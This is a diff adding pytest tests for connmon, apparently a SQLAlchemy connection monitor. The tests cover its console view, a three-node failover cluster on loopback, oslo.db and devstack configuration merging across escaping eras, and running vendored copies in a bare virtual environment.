+        term.wait_for(lambda t: re.search(
+            r"127\.0\.0\.1:3306 +all \(mysql\) +2 +1 +2 +!4 +2\b",
+            t.text), "the MariaDB server against its 151")
+        assert re.search(r"127\.0\.0\.1:3306 +db test +2 +- +2 +!4",
+                         term.text)
+        assert re.search(r"127\.0\.0\.1:3306 +wait\.py +\S+ +2 +- +2 +!4",
+                         term.text)
+        # The footer names this view's keys only (the table's "s sites"
+        # does nothing here).
+        assert "Esc back" in term.display[-1]
+        assert "s sites" not in term.display[-1]
+        term.press(b"d")
+        term.wait_for(lambda t: screen_row(t, "wait.py"), "the table")
+
+        # To wait.py (below calm.py: CONN descending), and into it.
+        down = screen_row(term, "wait.py")["y"] - 7
+        term.press(term.key["khome"] + term.key["kcud1"] * down + b"\r")
+        term.wait_text("wait.py on ")
+        term.wait_for(lambda t: re.search(
+            r"waiting 4 \(max \d+, longest \d+\.\d ms\)", t.text),
+            "the drill-down's pressure line")
+        term.wait_text("1 pool, with the database of each")
+        assert "mysql://root@127.0.0.1:3306/test" in term.text
+
+        outcomes = json.loads(crowded("outcomes", timeout=60)[0])
+        assert [o for o, _ in outcomes].count("timeout") == 4
+        term.wait_for(lambda t: re.search(r"timeouts \d+/s \(4\)", t.text),
+                      "four timeouts in the drill-down")
+    finally:
+        daemon.stop()
+
+
+# ===========================================================================
+# The HA cluster
+#
+# Real connmond nodes on loopback: every node shows the whole picture, a node
+# killed, stopped or cut off rejoins, and news in any order, through any
+# failover, counts each process once.
+# ===========================================================================
+
+
+class ThreeNodes:
+    """Nodes node1..node3 of service "test", each its own connmond."""
+
+    def __init__(self, tmp_path, extra_config: str = ""):
+        ports = [free_port() for _ in range(3)]
+        self.config = tmp_path / "cluster.cfg"
+        self.config.write_text(
+            "[connmon_service_test]\nname: test\nnodes:\n" + "".join(
+                f"    node{i} hostname=127.0.0.1:{port} bind=127.0.0.1\n"
+                for i, port in enumerate(ports, 1)) + extra_config)
+        self.nodes = {f"node{i}": Daemon(tmp_path, port, config=self.config,
+                                         node=f"node{i}")
+                      for i, port in enumerate(ports, 1)}
+        self.down: set = set()
+        self.last_seen: tuple = ()
+
+    def url(self, tmp_path, name: str) -> str:
+        """An SQLite URL monitored through the service (any node)."""
+        return (f"sqlite:///{tmp_path}/{name}.sqlite?plugin=connmon"
+                f"&connmon_service=test&connmon_config={self.config}")
+
+    def kill(self, name: str) -> None:
+        self.nodes[name].kill()
+        self.down.add(name)
+
+    def restart(self, name: str) -> None:
+        self.nodes[name].start()
+        self.down.discard(name)
+
+    def live(self) -> List[Daemon]:
+        return [d for n, d in self.nodes.items() if n not in self.down]
+
+    def stop(self) -> None:
+        for daemon in self.nodes.values():
+            daemon.stop()
+
+    def converged(self, truth: Dict[str, tuple], loose: tuple = ()
+                  ) -> Optional[List[dict]]:
+        """Every live node's snapshots if all show ``truth``: progname ->
+        (nproc, conn, ckout), with only (nproc, conn) compared for the
+        programs in ``loose`` (busy ones, whose checkouts come and go);
+        every live peer up; else None."""
+        snapshots = [d.snapshot() for d in self.live()]
+        for snapshot in snapshots:
+            seen = {row["progname"]: (row["nproc"], row["conn"], row["ckout"])
+                    for row in snapshot["rows"] if row["connected"]}
+            for name in loose:
+                seen[name] = seen.get(name, (0, 0, 0))[:2]
+            up = {n for n, is_up in snapshot["peers"].items() if is_up}
+            self.last_seen = (snapshot["node"], seen, up)
+            if seen != truth or up != {d.node for d in self.live()
+                                       } - {snapshot["node"]}:
+                return None
+        return snapshots
+
+
+@pytest.fixture
+def cluster(tmp_path):
+    nodes = ThreeNodes(tmp_path)
+    yield nodes
+    nodes.stop()
+
+
+def wait_converged(cluster: ThreeNodes, truth: Dict[str, tuple],
+                   loose: tuple = (), timeout: float = 20.0) -> List[dict]:
+    try:
+        return wait_until(lambda: cluster.converged(truth, loose), timeout,
+                          f"every live node to show {truth}")
+    except AssertionError as err:
+        raise AssertionError(f"{err}; node, rows, peers up: "
+                             f"{cluster.last_seen}") from None
+
+
+def test_largest_attach_fits_a_peer_message():
+    """A process at every cap the daemon keeps, every text at its longest
+    in characters JSON writes as 12 bytes each, told to a peer whole."""
+    longest = "\U0001F600" * connmon.MAX_NAME
+    big_int, age = (1 << 62) - 1, 1e9 - 1e-6
+    proc = connmon.ProcessState("i" * connmon.MAX_NAME, longest, longest,
+                                big_int, session=big_int)
+    now = time.monotonic()
+    for n in range(connmon.MAX_PROCESS_CONNECTIONS):
+        conn = big_int - n
+        proc.conns[conn] = big_int
+        proc.checked_out[conn] = now - age
+        proc.holders[conn] = (big_int - n % connmon.MAX_SITES, None, None)
+    for n in range(connmon.MAX_SITES):
+        proc.site_names[big_int - n] = longest
+        proc.held_at[big_int - n] = longest
+    for n in range(connmon.MAX_PROCESS_POOLS):
+        proc.pools[big_int - n] = big_int
+        proc.endpoints[big_int - n] = dict(zip(
+            connmon.ENDPOINT_FIELDS,
+            (longest, longest, big_int, longest, longest)))
+        proc.waiting[big_int - n] = (big_int, now - age)
+    proc.checkouts = proc.holds = big_int
+    message = connmon_server.attach_message(proc)
+    assert len(connmon.encode(
+        message, connmon_server.MAX_PEER_MESSAGE_BYTES)) > 16 << 20
+
+
+def test_a_process_larger_than_a_message_reaches_every_peer(cluster):
+    """An app's state may outgrow one message (it sends it in parts): a
+    node tells it whole to a peer that comes back, and forwards an
+    update of the app's at the very limit; the link is never cut."""
+    node1 = cluster.nodes["node1"]
+    app = SyntheticApp(node1, "big-host", "big.py")
+    emoji = "\U0001F600" * 250   # 3,000 bytes each in JSON
+
+    def add_sites(count: int) -> None:
+        first = len(app.state.site_names) + 1
+        for number in range(first, first + count):
+            app.state.site_names[number] = f"{emoji}{number:05d}"
+    for _ in range(2):
+        add_sites(300)
+        app.send()
+    # One update as close to the limit as it gets: grown by sites, then
+    # by ASCII characters at the end of the last name.
+    app.event(connmon.CONNECT, 1, 1)
+    app.event(connmon.CHECKOUT, 1)
+
+    def size() -> int:
+        return len(json.dumps(app.state.message(time.monotonic(), app.sent),
+                              separators=(",", ":"))) + 1
+    while size() < connmon.MAX_MESSAGE_BYTES - 4000:
+        add_sites(1)
+    last = len(app.state.site_names)
+    while size() < connmon.MAX_MESSAGE_BYTES - 50:
+        app.state.site_names[last] += "x" * min(
+            255 - len(app.state.site_names[last]),
+            connmon.MAX_MESSAGE_BYTES - 50 - size())
+        if len(app.state.site_names[last]) == 255:
+            add_sites(1)
+            last = len(app.state.site_names)
+            app.state.site_names[last] = "s"
+    assert size() <= connmon.MAX_MESSAGE_BYTES
+    app.send()
+    truth = {"big.py": (1, 1, 1)}
+    wait_converged(cluster, truth)
+    cluster.kill("node2")
+    cluster.restart("node2")   # node1 attaches the whole process to it
+    wait_converged(cluster, truth)
+    assert "cannot send" not in node1.log.read_text()
+    app.conn.close()
+
+
+def test_cluster_every_node_shows_the_whole_picture(cluster, apps, tmp_path):
+    pinned = [apps(f"sqlite:///{tmp_path}/p{i}.sqlite?plugin=connmon"
+                   f"&connmon_addr={d.address}", f"pinned{i}.py")
+              for i, d in enumerate(cluster.live(), 1)]
+    anywhere = [apps(cluster.url(tmp_path, f"a{i}"), f"anywhere{i}.py")
+                for i in range(1, 3)]
+    for i, app in enumerate(pinned + anywhere, 1):
+        app(f"hold {i}")
+    pinned[0]("release 1")
+    truth = {"pinned1.py": (1, 1, 0), "pinned2.py": (1, 2, 2),
+             "pinned3.py": (1, 3, 3), "anywhere1.py": (1, 4, 4),
+             "anywhere2.py": (1, 5, 5)}
+    snapshots = wait_converged(cluster, truth)
+    # Each pinned app is attached where it was sent; all nodes agree.
+    for i, snapshot in enumerate(snapshots, 1):
+        assert snapshot["node"] == f"node{i}"
+    row = cluster.nodes["node3"].row("pinned2.py", procs=True)
+    assert [p["node"] for p in row["procs"]] == ["node2"]
+    maxima = [{r["progname"]: (r["maxnproc"], r["maxconn"], r["maxckout"])
+               for r in s["rows"]} for s in snapshots]
+    assert maxima[0] == maxima[1] == maxima[2]
+    assert maxima[0]["pinned1.py"] == (1, 1, 1)
+
+
+def test_cluster_node_killed_under_load_and_restarted(cluster, apps,
+                                                      tmp_path):
+    held = {f"app{i}.py": i for i in range(1, 5)}
+    started = {name: apps(cluster.url(tmp_path, name), name)
+               for name in held}
+    for name, n in held.items():
+        started[name](f"hold {n}")
+    busy = apps(cluster.url(tmp_path, "busy"), "busy.py")
+    busy("busy")
+    truth = {name: (1, n, n) for name, n in held.items()}
+    truth["busy.py"] = (1, 1)
+    wait_converged(cluster, truth, loose=("busy.py",))
+
+    # Kill the node most apps are attached to.
+    row_nodes = [p["node"] for r in cluster.nodes["node1"].snapshot(
+        procs=True)["rows"] for p in r["procs"]]
+    victim = max(sorted(cluster.nodes), key=row_nodes.count)
+    assert row_nodes.count(victim) >= 1
+    cluster.kill(victim)
+    for name, n in held.items():   # the apps keep changing meanwhile
+        started[name]("hold 1")
+        truth[name] = (1, n + 1, n + 1)
+    snapshots = wait_converged(cluster, truth, loose=("busy.py",))
+    for snapshot in snapshots:
+        assert snapshot["peers"][victim] is False
+        assert victim not in {p["node"] for r in cluster.nodes[
+            snapshot["node"]].snapshot(procs=True)["rows"]
+            for p in r["procs"]}
+
+    cluster.restart(victim)
+    started["app1.py"]("release 2")
+    truth["app1.py"] = (1, 2, 0)
+    wait_converged(cluster, truth, loose=("busy.py",))
+
+
+def test_cluster_random_failover_orderings_never_double_count(
+        cluster, apps, tmp_path):
+    seed = int(os.environ.get("CONNMON_TEST_SEED", time.time()))
+    rng = random.Random(seed)
+    held = {f"app{i}.py": 0 for i in range(1, 5)}
+    started = {name: apps(cluster.url(tmp_path, name), name, pool_size=20)
+               for name in held}
+    for app in started.values():   # a process is listed once it uses a pool
+        app("query 1")
+    pooled = {name: 1 for name in held}   # a released one stays pooled
+    for step in range(10):
+        live, down = sorted(n for n in cluster.nodes
+                            if n not in cluster.down), sorted(cluster.down)
+        if down and (len(live) == 1 or rng.random() < 0.5):
+            action = "restart " + rng.choice(down)
+            cluster.restart(action.split()[1])
+        else:
+            action = "kill " + rng.choice(live)
+            cluster.kill(action.split()[1])
+        name = rng.choice(sorted(held))
+        if held[name] and rng.random() < 0.4:
+            action += f", release 1 in {name}"
+            started[name]("release 1")
+            held[name] -= 1
+        else:
+            action += f", hold 1 more in {name}"
+            started[name]("hold 1")
+            held[name] += 1
+            pooled[name] = max(pooled[name], held[name])
+        truth = {name: (1, pooled[name], n) for name, n in held.items()}
+        try:
+            wait_converged(cluster, truth)
+        except AssertionError as err:
+            raise AssertionError(f"seed {seed}, step {step} ({action}): "
+                                 f"{err}") from None
+
+
+def test_cluster_stopped_node_is_cut_off_and_rejoins(apps, tmp_path):
+    """A node that stops answering (SIGSTOP, longer than the heartbeat
+    timeout) is cut off: its applications fail over, the others drop its
+    processes; when it runs again it rejoins, and nothing is counted
+    twice anywhere."""
+    cluster = ThreeNodes(tmp_path, extra_config="heartbeat_timeout: 2\n")
+    try:
+        held = {f"app{i}.py": i for i in range(1, 7)}
+        started = {name: apps(cluster.url(tmp_path, name), name)
+                   for name in held}
+        for name, n in held.items():
+            started[name](f"hold {n}")
+        truth = {name: (1, n, n) for name, n in held.items()}
+        wait_converged(cluster, truth)
+        attached = [p["node"] for r in cluster.nodes["node1"].snapshot(
+            procs=True)["rows"] for p in r["procs"]]
+        victim = max(sorted(cluster.nodes), key=attached.count)
+        cluster.nodes[victim].proc.send_signal(signal.SIGSTOP)
+        cluster.down.add(victim)
+        try:
+            snapshots = wait_converged(cluster, truth)
+            for snapshot in snapshots:
+                assert snapshot["peers"][victim] is False
+        finally:
+            cluster.nodes[victim].proc.send_signal(signal.SIGCONT)
+            cluster.down.discard(victim)
+        started["app1.py"]("hold 1")
+        truth["app1.py"] = (1, 2, 2)
+        wait_converged(cluster, truth)
+    finally:
+        cluster.stop()
+
+
+def _session_news(ident: str, session: int, held: int, ends: bool
+                  ) -> List[tuple]:
+    """What one node tells others about one session of a process: it
+    attached (with ``held`` connections checked out), and maybe it ended."""
+    proc = connmon.ProcessState(ident, "host", "prog.py", 42, session)
+    for conn in range(held):
+        proc.fold([(connmon.CHECKOUT, conn, 0.0, 1, None, None, None,
+                    None)])
+    news = [("attach", proc)]
+    if ends:
+        news.append(("detach", session))
+    return news
+
+
+@hypothesis.settings(max_examples=300, deadline=None)
+@hypothesis.given(
+    origins=st.lists(st.sampled_from(["nodeA", "nodeB"]), min_size=1,
+                     max_size=6),
+    holds=st.lists(st.integers(0, 3), min_size=6, max_size=6),
+    order=st.lists(st.booleans(), min_size=24, max_size=24))
+def test_cluster_news_in_any_order_counts_each_process_once(origins, holds,
+                                                            order):
+    """A process fails over between nodes A and B (one session a node
+    visit).  Node C hears each node's news in that node's order, but the
+    two streams interleave arbitrarily: C must end with the last session's
+    state, counted once."""
+    streams: Dict[str, List[tuple]] = {"nodeA": [], "nodeB": []}
+    for session, origin in enumerate(origins, 1):
+        streams[origin] += [
+            (origin, kind, item) for kind, item in _session_news(
+                "p1", session, holds[session - 1],
+                ends=session < len(origins))]
+    picture = connmon_server.Picture()
+    choices = iter(order)
+    while streams["nodeA"] or streams["nodeB"]:
+        pick = "nodeA" if next(choices, True) else "nodeB"
+        if not streams[pick]:
+            pick = "nodeB" if pick == "nodeA" else "nodeA"
+        origin, kind, item = streams[pick].pop(0)
+        if kind == "attach":
+            twin = connmon.ProcessState(item.ident, item.hostname,
+                                        item.progname, item.pid, item.session)
+            twin.update(item.message(0.0), 0.0)
+            picture.attach(twin, origin)
+        else:
+            picture.detach("p1", item)
+    last = len(origins)
+    snapshot = picture.snapshot(0.0)
+    assert (snapshot["processes"], snapshot["connections"],
+            snapshot["checkouts"]) == (1, holds[last - 1], holds[last - 1])
+    assert picture.processes["p1"].session == last
+    (row,) = snapshot["rows"]
+    assert (row["nproc"], row["conn"], row["ckout"]) == (
+        1, holds[last - 1], holds[last - 1])
+
+
+def test_cluster_batched_forwards_carry_every_update(cluster):
+    """Apps on node1 and node2 send counters and checkouts; every node's
+    picture converges, and each counts every checkout once (the updates
+    reach the peers in batches)."""
+    node1, node2, node3 = cluster.nodes.values()
+    wait_until(lambda: all(all(d.snapshot()["peers"].values())
+                           for d in cluster.live()), 20, "the cluster up")
+    apps = [SyntheticApp(node, "batch-host", f"batch{n}.py")
+            for n, node in enumerate((node1, node2, node1), 1)]
+    for app in apps:
+        for conn in (1, 2, 3):
+            app.event(connmon.CONNECT, conn, pool=7)
+        app.send()
+    for round_ in range(20):
+        for app in apps:
+            app.conn.send(counters_only())
+        if round_ % 5 == 0:
+            apps[0].event(connmon.CHECKOUT, 1 + round_ // 5 % 3, pool=7)
+            apps[0].send()
+    wait_converged(cluster, {"batch1.py": (1, 3, 3), "batch2.py": (1, 3, 0),
+                             "batch3.py": (1, 3, 0)})
+    for node in cluster.live():
+        wait_until(lambda: {row["progname"]: row["ckout_total"]
+                            for row in node.snapshot()["rows"]} == {
+            "batch1.py": 103, "batch2.py": 100, "batch3.py": 100}, 10,
+            f"every checkout counted once on {node.node}")
+
+
+# ===========================================================================
+# oslo.db and devstack
+#
+# OpenStack's way in: oslo.db's create_engine and enginefacade sessions in
+# forked workers, and devstack's local.conf recipe landing in a service's
+# config file as intended, in each era of its escaping.
+# ===========================================================================
+
+
+def test_oslo_db_create_engine_pool_options_sql_mode_and_ping(daemon):
+    require_database(MYSQL_URL)
+    import sqlalchemy as sa
+    from oslo_db.sqlalchemy import engines
+    me = connmon.progname()
+    for form in ("dialect", "plugin"):
+        engine = engines.create_engine(
+            monitored(MYSQL_URL, daemon, form) + "&charset=utf8",
+            mysql_sql_mode="TRADITIONAL", max_pool_size=2, max_overflow=1,
+            pool_timeout=1, max_retries=1)
+        assert engine.dialect.name == "mysql"
+        assert (engine.pool.size(), engine.pool.timeout()) == (2, 1)
+        held = [engine.connect() for _ in range(3)]   # 2 + 1 overflow
+        for conn in held:
+            mode = conn.execute(sa.text("SELECT @@SESSION.sql_mode")).scalar()
+            assert "TRADITIONAL" in mode.split(",")
+        daemon.wait_row(me, conn=3, ckout=3)
+        with pytest.raises(sa.exc.TimeoutError):
+            engine.connect()   # pool_timeout: the pool is full
+        thread_id = held[0].connection.dbapi_connection.thread_id()
+        for conn in held:
+            conn.close()       # the overflow connection is closed
+        daemon.wait_row(me, conn=2, ckout=0, maxconn=3)
+
+        # oslo.db pings at checkout (pool_pre_ping): a connection killed
+        # on the server is replaced, and counted once.
+        admin = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
+        with admin.connect() as conn:
+            conn.execute(sa.text(f"KILL CONNECTION {int(thread_id)}"))
+        held = [engine.connect() for _ in range(2)]
+        for conn in held:
+            assert conn.execute(sa.text("SELECT 1")).scalar() == 1
+        daemon.wait_row(me, conn=2, ckout=2, maxconn=3)
+        for conn in held:
+            conn.close()
+        engine.dispose()
+        daemon.wait_row(me, conn=0, ckout=0)
+
+
+# An OpenStack-style service: it reads its [database] section with
+# oslo.config and goes through enginefacade writer and reader sessions, the
+# way nova and neutron do.
+OSLO_APP_SCRIPT = r'''
+import os, sys, time
+import sqlalchemy as sa
+from oslo_config import cfg
+from oslo_db import options as db_options
+from oslo_db.sqlalchemy import enginefacade
+
+conf = cfg.ConfigOpts()
+db_options.set_defaults(conf)
+conf(["--config-file", sys.argv[1]], project="connmon-test")
+context = enginefacade.transaction_context()
+context.configure(**dict(conf.database.items()))
+held = []
+
+class Request:
+    """A request context: enginefacade keeps its session on it."""
+
+def hold(mode, n):
+    for _ in range(n):
+        scope = getattr(context, mode).using(Request())
+        session = scope.__enter__()
+        session.execute(sa.text("SELECT 1"))
+        held.append((scope, session))
+
+def answer(*words):
+    print("ok", *words, flush=True)
+
+for line in sys.stdin:
+    cmd, *args = line.split()
+    if cmd in ("writer", "reader"):
+        hold(cmd, int(args[0]))
+    elif cmd == "release":
+        for _ in range(int(args[0])):
+            held.pop()[0].__exit__(None, None, None)
+    elif cmd == "info":
+        session = held[-1][1]
+        pool = context.writer.get_engine().pool
+        answer(session.execute(sa.text("SELECT @@SESSION.sql_mode")).scalar(),
+               pool.size(), pool._max_overflow, pool.timeout())
+        continue
+    elif cmd == "fork":
+        workers = []
+        for i in range(int(args[0])):
+            pid = os.fork()
+            if pid == 0:   # worker i holds i % 3 + 1 writer sessions
+                held.clear()
+                hold("writer", i % 3 + 1)
+                while True:
+                    time.sleep(60)
+            workers.append(pid)
+        answer(*workers)
+        continue
+    answer()
+'''
+
+
+class OsloApp(App):
+    source = OSLO_APP_SCRIPT
+
+
+@pytest.mark.parametrize("form", ["dialect", "plugin"])
+def test_oslo_db_enginefacade_sessions_and_forked_workers(daemon, tmp_path,
+                                                          form):
+    """The devstack recipe's URL (connmon_service=, found in the config
+    file) in a nova.conf-style [database] section."""
+    require_database(MYSQL_URL)
+    from sqlalchemy.engine import make_url
+    url = make_url(monitored(MYSQL_URL, daemon, form)).difference_update_query(
+        ["connmon_addr"]).update_query_dict({
+            "charset": "utf8", "connmon_service": "test",
+            "connmon_config": str(daemon.config)})
+    url = url.render_as_string(hide_password=False)
+    conf = tmp_path / "nova.conf"
+    conf.write_text(textwrap.dedent(f"""\
+        [database]
+        connection = {url}
+        slave_connection = {url}
+        synchronous_reader = false
+        max_pool_size = 3
+        max_overflow = 2
+        pool_timeout = 5
+        """))
+    app = OsloApp(tmp_path, str(conf), "nova-conductor")
+    try:
+        app("writer 2")
+        app("reader 1")   # the slave_connection engine: a second pool
+        daemon.wait_row("nova-conductor", nproc=1, conn=3, ckout=3)
+        sql_mode, size, overflow, timeout = app("info")
+        assert "TRADITIONAL" in sql_mode.split(",")   # oslo.db's default
+        assert (size, overflow, timeout) == ("3", "2", "5")
+        app("release 3")
+        daemon.wait_row("nova-conductor", conn=3, ckout=0)
+
+        workers = app.fork(4)
+        held = {pid: i % 3 + 1 for i, pid in enumerate(workers)}
+        total = sum(held.values())
+        # Each worker's checkouts find connections inherited from the
+        # parent; oslo.db's fork guard discards them and connects anew.
+        row = daemon.wait_row("nova-conductor", procs=True, nproc=5,
+                              conn=3 + total, ckout=total)
+        assert {p["pid"]: (p["conn"], p["ckout"]) for p in row["procs"]} == {
+            app.proc.pid: (3, 0), **{pid: (n, n) for pid, n in held.items()}}
+    finally:
+        app.stop()
+    daemon.wait_row("nova-conductor", connected=False, conn=0)
+
+
+def test_oslo_db_writer_attributed_to_the_application(daemon, tmp_path):
+    require_database(MYSQL_URL)
+    conf = tmp_path / "nova.conf"
+    url = monitored(MYSQL_URL, daemon, "plugin")
+    conf.write_text(f"[database]\nconnection = {url}\n")
+    app = OsloApp(tmp_path, str(conf), "oslo_sites.py")
+    try:
+        app("writer 2")
+        row = daemon.wait_row("oslo_sites.py", ckout=2)
+        (site,) = row["sites"]
+        assert site["held"] == 2
+        assert site["site"].startswith(f"{tmp_path / 'oslo_sites.py'}:")
+        assert site["site"].endswith(" in hold")
+    finally:
+        app.stop()
+
+
+# devstack's merge of a local.conf [[post-config|...]] value into a service's
+# config file, in bash as devstack runs it (inc/meta-config's
+# merge_config_file, inc/ini-config's iniset): its awk prints
+# 'iniset FILE SECTION OPTION "VALUE"' lines that are read (without -r) and
+# eval'ed; iniset puts the value into a sed command, escaped as each era of
+# devstack escapes it.
+DEVSTACK_ESCAPES = {
+    "2025 on": r"""value=$(echo $value | sed -e 's/\\/\\\\/g' -e 's/&/\\&/g')""",
+    "2022 to 2025": r"""value=$(echo $value | sed -e 's/&/\\&/g')""",
+    "before 2022": "",
+}
+DEVSTACK_MERGE = r"""
+function iniset {
+    local file=$1 section=$2 option=$3 value=$4
+    ESCAPE
+    if ! grep -q "^\[$section\]" "$file" 2>/dev/null; then
+        echo -e "\n[$section]" >> "$file"
+    fi
+    sed -i -e "/^\[$section\]/ a\\
+$option = $value
+" "$file"
+}
+while read a; do eval "$a"; done
+"""
+
+
+def readme_devstack_connections() -> List[Tuple[str, str, str]]:
+    """(config variable, section, URL) of each connection line of the
+    devstack recipe of docs/openstack.txt."""
+    readme = pathlib.Path(HERE, "docs", "openstack.txt").read_text()
+    recipe = readme.split("Using with devstack\n", 1)[1].split(
+        "\nWhat must end up", 1)[0]
+    found, conf, section = [], "", ""
+    for line in recipe.splitlines():
+        line = line.strip()
+        if line.startswith("[[post-config|"):
+            conf = line[len("[[post-config|"):-2]
+        elif line.startswith("["):
+            section = line[1:-1]
+        elif line.startswith("connection ="):
+            found.append((conf, section, line.split("=", 1)[1].strip()))
+    return found
+
+
+@pytest.mark.parametrize("era", sorted(DEVSTACK_ESCAPES))
+def test_devstack_recipe_lands_as_intended(tmp_path, era):
+    r"""Every URL of the README's devstack section, merged by devstack of
+    each era (the README's "\\&" for each "&" before 2022), lands in the
+    service's config as a URL that SQLAlchemy parses to the intended
+    database, charset and connmon service."""
+    from sqlalchemy.engine import make_url
+    connections = readme_devstack_connections()
+    assert [(conf, section, make_url(url).database) for conf, section, url
+            in connections] == [
+        ("$NOVA_CONF", "database", "nova"),
+        ("$NOVA_CONF", "api_database", "nova_api"),
+        ("$NEUTRON_CONF", "database", "neutron"),
+        ("$KEYSTONE_CONF", "database", "keystone"),
+        ("$CINDER_CONF", "database", "cinder"),
+        ("$GLANCE_API_CONF", "database", "glance")]
+    script = tmp_path / "merge.sh"
+    script.write_text(DEVSTACK_MERGE.replace("ESCAPE", DEVSTACK_ESCAPES[era]))
+    for number, (conf, section, url) in enumerate(connections):
+        if era == "before 2022":
+            url = url.replace("&", "\\\\&")   # as README says for old ones
+        conf_file = tmp_path / f"{number}.conf"
+        conf_file.write_text("")
+        merged = subprocess.run(
+            ["bash", str(script)], input=f'iniset {conf_file} {section} '
+            f'connection "{url}"\n', capture_output=True, text=True,
+            timeout=30)
+        assert merged.returncode == 0, merged.stderr
+        parser = configparser.ConfigParser(interpolation=None)
+        parser.read_string(conf_file.read_text())
+        landed = make_url(parser[section]["connection"])
+        assert landed.drivername == "mysql+pymysql_connmon"
+        assert landed.database == make_url(url).database
+        assert dict(landed.query) == {"charset": "utf8",
+                                      "connmon_service": "default"}
+        assert connmon.url_settings(landed.query) == {
+            "connmon_service": "default"}
+
+
+def test_devstack_old_escape_breaks_current_devstack(tmp_path):
+    r"""Why the recipe changed: "\\&" merged by current devstack lands as
+    "\&", and the charset becomes "utf8\"."""
+    from sqlalchemy.engine import make_url
+    script = tmp_path / "merge.sh"
+    script.write_text(DEVSTACK_MERGE.replace(
+        "ESCAPE", DEVSTACK_ESCAPES["2025 on"]))
+    conf_file = tmp_path / "nova.conf"
+    conf_file.write_text("")
+    url = ("mysql+pymysql_connmon://root:sa@127.0.0.1/nova?charset=utf8"
+           "\\\\&connmon_service=default")
+    subprocess.run(["bash", str(script)], check=True, timeout=30,
+                   input=f'iniset {conf_file} database connection "{url}"\n',
+                   text=True)
+    parser = configparser.ConfigParser(interpolation=None)
+    parser.read_string(conf_file.read_text())
+    landed = make_url(parser["database"]["connection"])
+    assert landed.query["charset"] == "utf8\\"
+
+
+# ===========================================================================
+# Vendoring
+#
+# connmon.py copied alone next to an application in a bare venv is enough;
+# the daemon and the console need only the stdlib; installing the entry
+# points replaces connmon's own and spares pip's.
+# ===========================================================================
+
+
+PLAIN_ENV = {key: value for key, value in os.environ.items()
+             if not key.startswith("PYTHON")}
+
+
+def copy_modules(directory, *names: str) -> None:
+    directory.mkdir()
+    for name in names:
+        with open(os.path.join(HERE, name), "rb") as file:
+            (directory / name).write_bytes(file.read())
+
+
+def test_vendored_connmon_py_in_a_bare_venv(tmp_path, daemon):
+    venv = tmp_path / "venv"
+    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True,
+                   env=PLAIN_ENV, timeout=300)
+    python = str(venv / "bin" / "python")
+    pip = subprocess.run([python, "-m", "pip", "install", "-q",
+                          "--disable-pip-version-check", "SQLAlchemy>=2",
+                          "PyMySQL"], env=PLAIN_ENV, capture_output=True,
+                         text=True, timeout=600)
+    if pip.returncode != 0:
+        missing(f"cannot pip install SQLAlchemy, PyMySQL: {pip.stderr}")
+    require_database(MYSQL_URL)
+    probe = "import importlib.metadata as m; m.distribution('connmon')"
+    assert subprocess.run([python, "-c", probe], cwd=tmp_path,
+                          env=PLAIN_ENV, capture_output=True).returncode == 1
+
+    app_dir = tmp_path / "app"
+    copy_modules(app_dir, "connmon.py")
+    result = subprocess.run([python, "connmon.py", "--install-entry-points"],
+                            cwd=app_dir, env=PLAIN_ENV, capture_output=True,
+                            text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == str(
+        app_dir / f"connmon-{connmon.__version__}.dist-info")
+
+    (app_dir / "vendored.py").write_text(textwrap.dedent("""\
+        import sys
+        import sqlalchemy as sa
+        held = [sa.create_engine(url).connect() for url in sys.argv[1:]]
+        print("ok", flush=True)
+        sys.stdin.read()
+        """))
+    urls = [monitored(MYSQL_URL, daemon, form)
+            for form in ("dialect", "plugin")]
+    app = subprocess.Popen([python, str(app_dir / "vendored.py"), *urls],
+                           cwd=tmp_path, env=PLAIN_ENV, text=True,
+                           stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                           stderr=subprocess.PIPE)
+    try:
+        assert app.stdout.readline() == "ok\n", app.stderr.read()
+        row = daemon.wait_row("vendored.py", nproc=1, conn=2, ckout=2)
+        assert row["hostname"] == socket.gethostname()
+    finally:
+        app.kill()
+        app.wait(10)
+
+
+def test_daemon_and_console_need_only_the_stdlib(tmp_path, apps):
+    """Run from a directory that holds only the three modules, with
+    ``-E -s -S``: no site-packages, no PYTHON* variables; the working
+    directory is the only thing on sys.path besides the stdlib (``-I``
+    would drop it too, see README.txt)."""
+    bare = tmp_path / "bare"
+    copy_modules(bare, "connmon.py", "connmon_server.py",
+                 "connmon_console.py")
+    python = [sys.executable, "-E", "-s", "-S"]
+    check = subprocess.run(
+        python + ["-c", "import sys, connmon_server, connmon_console; "
+                  "print(sys.path[0]); import sqlalchemy"],
+        cwd=bare, env=PLAIN_ENV, capture_output=True, text=True, timeout=30)
+    assert check.stdout == "\n"   # '' is the working directory
+    assert "No module named 'sqlalchemy'" in check.stderr
+
+    port = free_port()
+    config = tmp_path / "bare.cfg"
+    config.write_text(f"[connmon_service_default]\nname: default\nnodes:\n"
+                      f"    n1 hostname=127.0.0.1:{port} bind=127.0.0.1\n")
+    log = open(tmp_path / "bare-connmond.log", "ab")
+    server = subprocess.Popen(python + ["-m", "connmon_server", "-c",
+                                        str(config)],
+                              cwd=bare, env=PLAIN_ENV, stderr=log)
+    try:
+        app = apps(f"sqlite:///{tmp_path}/b.sqlite?plugin=connmon"
+                   f"&connmon_addr=127.0.0.1:{port}", "bare_app.py")
+        app("hold 2")
+
+        def console() -> Optional[dict]:
+            result = subprocess.run(
+                python + ["-m", "connmon_console", "--once", "--json", "-c",
+                          str(config)], cwd=bare, env=PLAIN_ENV,
+                capture_output=True, text=True, timeout=30)
+            if result.returncode != 0:
+                return None
+            snapshot = json.loads(result.stdout)
+            return snapshot if snapshot["connections"] == 2 else None
+        snapshot = wait_until(console, what="the bare console's snapshot")
+        (row,) = snapshot["rows"]
+        assert (row["progname"], row["conn"], row["ckout"]) == (
+            "bare_app.py", 2, 2)
+    finally:
+        server.terminate()
+        server.wait(10)
+    assert server.returncode == 0
+
+
+def test_install_entry_points_replaces_its_own_and_spares_pips(tmp_path):
+    from importlib.metadata import PathDistribution
+    target = tmp_path / "site"
+    copy_modules(target, "connmon.py")
+    stale = target / "connmon-0.0.1.dist-info"
+    stale.mkdir()
+    (stale / "INSTALLER").write_text(connmon.INSTALLER)
+    for _ in range(2):
+        result = subprocess.run(
+            [sys.executable, str(target / "connmon.py"),
+             "--install-entry-points"], cwd=tmp_path, env=PLAIN_ENV,
+            capture_output=True, text=True, timeout=30)
+        assert result.returncode == 0, result.stderr
